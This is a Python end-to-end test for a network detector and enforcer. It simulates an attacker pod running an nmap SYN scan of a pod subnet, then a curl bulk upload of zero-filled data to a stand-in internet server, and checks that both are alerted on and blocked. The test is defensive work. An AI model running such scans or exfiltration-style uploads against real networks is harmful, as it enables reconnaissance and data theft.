"""End to end on real packets: a namespace cluster, a scan and an upload, detected and blocked.

The collector captures live on the router's bridge; the broker (tansu), the pipeline and the
enforcer (enforce mode, nftables in the router) run as separate processes in the router
namespace (see :mod:`tests.e2e.cluster`). After a benign warm-up, one pod scans the pod
network with nmap, then uploads 120 MB with curl to an internet address the cluster never
used, through a server that reads 4 MB/s (30 s for the whole body). The test checks both
findings and both blocks, that the upload is cut off, that benign traffic and the control
plane are untouched, and prints the attack-to-alert and attack-to-block times.
"""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.e2e.cluster import (
    CONTROL_PLANE,
    CP_PORTS,
    DNS,
    INTERNET,
    INTERNET_PORT,
    PODS,
    WEB_PORT,
    Cluster,
    flowwarden_config,
    inventory,
    read_jsonl,
    read_rows,
    running_cluster,
    start_flowwarden,
)
from tests.support.netns import netns_available, wait_for

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

ATTACKER, WEB = PODS["attacker"], PODS["web"]
UPLOAD_BYTES = 120_000_000  # at the server's 4 MB/s: 30 s if nobody stops it
WARMUP_ROUNDS = 24  # benign client rounds (0.5 s each) the engine sees before the attack: > learn_s
BENIGN_KINDS = ("web", "dns", "saas", "scrape-web", "scrape-client", "scrape-scraper")


@pytest.fixture
def cluster(tmp_path: Path) -> Iterator[Cluster]:
    assert netns_available(), "the end-to-end test creates network namespaces: run it as root"
    with running_cluster(tmp_path) as c:
        try:
            yield c
        finally:
            print(c.tail_logs())  # shown by pytest when the test fails


def _benign(c: Cluster) -> list[dict[str, Any]]:
    return read_jsonl(c.workdir / "client.jsonl") + read_jsonl(c.workdir / "scraper.jsonl")


def _ok_after(c: Cluster, t: float) -> dict[str, int]:
    counts = dict.fromkeys(BENIGN_KINDS, 0)
    for r in _benign(c):
        if r["ok"] and r["t"] > t:
            counts[r["kind"]] += 1
    return counts


def _alerts(c: Cluster) -> list[dict[str, Any]]:
    return read_rows(
        c.workdir / "pipeline.db", "SELECT kind, detector, score, severity, src_ip, targets FROM alerts"
    )


def _decisions(c: Cluster) -> list[dict[str, Any]]:
    q = "SELECT detector, status, mode, src_ip, targets, guardrail, reason FROM decisions"
    return read_rows(c.workdir / "enforcer.db", q)


def _has(rows: list[dict[str, Any]], target: str, **match: str) -> bool:
    return any(all(r[k] == v for k, v in match.items()) and target in json.loads(r["targets"]) for r in rows)


def test_scan_and_upload_are_detected_and_blocked_while_benign_traffic_flows(
    cluster: Cluster, tmp_path: Path
) -> None:
    c = cluster
    inv = tmp_path / "inventory.json"
    inv.write_text(json.dumps(inventory()))
    config = tmp_path / "flowwarden.yaml"
    config.write_text(yaml.safe_dump(flowwarden_config(tmp_path, inventory_path=inv)))
    c.program(
        "benign-client", "client", "benign", "--role", "client", "--log", str(tmp_path / "client.jsonl")
    )
    c.program(
        "benign-scraper", "scraper", "benign", "--role", "scraper", "--period", "1",
        "--log", str(tmp_path / "scraper.jsonl"),
    )  # fmt: skip
    t_start = time.time()
    start_flowwarden(c, config)

    # Ready: the pipeline scores windows of live flows, the enforcer has built its nft table.
    wait_for(
        lambda: c.metric(9102, "flowwarden_pipeline_windows_scored_total") > 0,
        timeout=90, interval=0.5, what=f"the pipeline scoring windows (dead: {c.dead()})",
    )  # fmt: skip
    wait_for(
        lambda: c.router.run("nft", "list", "table", "inet", "flowwarden", check=False).returncode == 0,
        timeout=60, interval=0.5, what="the enforcer's nft table in the router",
    )  # fmt: skip
    t_ready = time.time()
    # Warm-up: the engine learns the benign traffic (its "new destination" memory needs learn_s).
    wait_for(
        lambda: _ok_after(c, t_ready)["web"] >= WARMUP_ROUNDS,
        timeout=60, interval=0.5, what=f"{WARMUP_ROUNDS} benign rounds after the pipeline was ready",
    )  # fmt: skip
    before = _benign(c)
    assert [r for r in before if not r["ok"]] == [], "benign traffic failed before the attack"
    assert min(_ok_after(c, 0).values()) >= 5, _ok_after(c, 0)
    assert _alerts(c) == [], "alerts on benign traffic alone"
    assert c.reachable("attacker", WEB, [WEB_PORT]) == {WEB_PORT: True}
    blob = tmp_path / "blob.bin"
    with open(blob, "wb") as f:
        f.truncate(UPLOAD_BYTES)  # zeros: the payload does not matter, its size does

    # The attack: a SYN scan of the pod network, then a bulk upload to a new internet address.
    # The scan includes the node's own address (the gateway): the enforcer drops that target
    # (node_address guardrail) and blocks the rest.
    t_scan = time.time()
    scan = c.host("attacker").run(
        "nmap", "-sS", "-n", "-T4", "--max-retries", "1", "--host-timeout", "20s", "-p", "1-200",
        "10.244.1.0/24", timeout=90,
    )  # fmt: skip
    assert f"Nmap scan report for {WEB}" in scan.stdout, scan.stdout[-2000:]
    t_upload = time.time()
    with open(tmp_path / "curl.out", "wb") as out:
        curl = c.host("attacker").popen(
            "curl", "-sS", "-H", "Expect:", "--max-time", "90", "-T", str(blob),
            f"http://{INTERNET}:{INTERNET_PORT}/upload", stdout=out, stderr=subprocess.STDOUT,
        )  # fmt: skip
    seen: dict[str, float] = {}

    def progress() -> bool:
        now = time.time()
        alerts, pairs = _alerts(c), c.blocked_pairs()
        events = {
            "scan alert": _has(alerts, WEB, kind="lateral_movement", src_ip=ATTACKER),
            "scan block": (ATTACKER, WEB) in pairs,
            "upload alert": _has(alerts, INTERNET, kind="exfiltration", src_ip=ATTACKER),
            "upload block": (ATTACKER, INTERNET) in pairs,
            "curl ended": curl.poll() is not None,
        }
        for name, happened in events.items():
            if happened:
                seen.setdefault(name, now)
        return len(seen) == len(events)

    try:
        wait_for(progress, timeout=90, interval=0.2, what="the alerts, the blocks and the end of the upload")
    except AssertionError as exc:
        raise AssertionError(f"{exc}; seen so far: {sorted(seen)}; alerts: {_alerts(c)}; "
                             f"decisions: {_decisions(c)}; dead: {c.dead()}") from None  # fmt: skip

    # The upload was cut off by the block, long before its 30 s.
    assert curl.returncode != 0, (tmp_path / "curl.out").read_text()
    wait_for(
        lambda: read_jsonl(tmp_path / "uploads.jsonl") != [], timeout=20, what="the server's upload record"
    )
    (upload,) = read_jsonl(tmp_path / "uploads.jsonl")
    assert upload["client"] == ATTACKER and upload["expected"] == UPLOAD_BYTES
    assert 1_000_000 < upload["received"] < UPLOAD_BYTES, upload

    # Right kinds, only the attacker, and the enforcer's own record of both blocks.
    alerts = _alerts(c)
    assert {a["src_ip"] for a in alerts} == {ATTACKER}, alerts
    assert {a["kind"] for a in alerts} == {"lateral_movement", "exfiltration"}
    decisions = _decisions(c)
    assert _has(decisions, WEB, status="applied", mode="enforce", src_ip=ATTACKER), decisions
    assert _has(decisions, INTERNET, status="applied", mode="enforce", src_ip=ATTACKER), decisions

    # The blocks bite (the scan's, on bridged pod traffic too); nothing else was cut.
    assert c.reachable("attacker", WEB, [WEB_PORT]) == {WEB_PORT: False}
    t_block = seen["upload block"]
    wait_for(
        lambda: min(_ok_after(c, t_block).values()) >= 3,
        timeout=30, interval=0.5, what=f"benign traffic after the blocks ({_ok_after(c, t_block)})",
    )  # fmt: skip
    failed = [r for r in _benign(c) if not r["ok"]]
    assert failed == [], f"benign requests failed: {failed[:5]}"
    for pod in PODS:
        assert c.reachable(pod, CONTROL_PLANE, CP_PORTS) == dict.fromkeys(CP_PORTS, True), pod
    dns = c.host("attacker").run(
        "dig", "+short", "+time=2", "+tries=2", f"@{DNS}", "web.shop.svc.cluster.local"
    )
    assert dns.stdout.split() == [WEB], "the cluster DNS must stay reachable from a blocked pod"
    assert c.dead() == [], f"processes exited during the test: {c.dead()}"

    figures = {
        "startup_to_ready_s": round(t_ready - t_start, 1),
        "scan_start_to_alert_s": round(seen["scan alert"] - t_scan, 1),
        "scan_start_to_block_s": round(seen["scan block"] - t_scan, 1),
        "upload_start_to_alert_s": round(seen["upload alert"] - t_upload, 1),
        "upload_start_to_block_s": round(seen["upload block"] - t_upload, 1),
        "attack_start_to_last_block_s": round(max(seen["scan block"], seen["upload block"]) - t_scan, 1),
        "upload_bytes_received": upload["received"],
        "collector_packets": c.metric(9101, "flowwarden_collector_packets_total"),
        "collector_kernel_drops": c.metric(9101, "flowwarden_collector_kernel_drops_total"),
        "pipeline_flows": c.metric(9102, "flowwarden_pipeline_flows_total"),
        "alerts": sorted(f"{a['kind']}/{a['detector']}/{a['severity']}" for a in alerts),
        "decisions": sorted(f"{d['detector']}:{d['status']}" for d in decisions),
    }
    print("e2e figures " + json.dumps(figures))
